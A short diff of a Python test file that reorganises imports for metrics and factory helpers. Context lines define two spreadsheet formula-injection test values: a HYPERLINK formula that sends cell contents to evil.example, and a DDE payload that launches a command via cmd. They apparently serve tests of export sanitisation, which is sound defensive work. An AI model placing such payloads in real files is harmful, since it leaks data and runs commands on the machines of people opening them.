@@ -6,10 +6,9 @@ import io
 import pytest
 
 from activities.models import Source
-from conversion_points.metrics import metrics_recompute
 from conversion_points.models import Area
-
-from .factories import small_computed_community, the_day_after_sunday
+from conversion_points.tests.factories import small_computed_community, the_day_after_sunday
+from metrics.engine import metrics_recompute
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Support")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
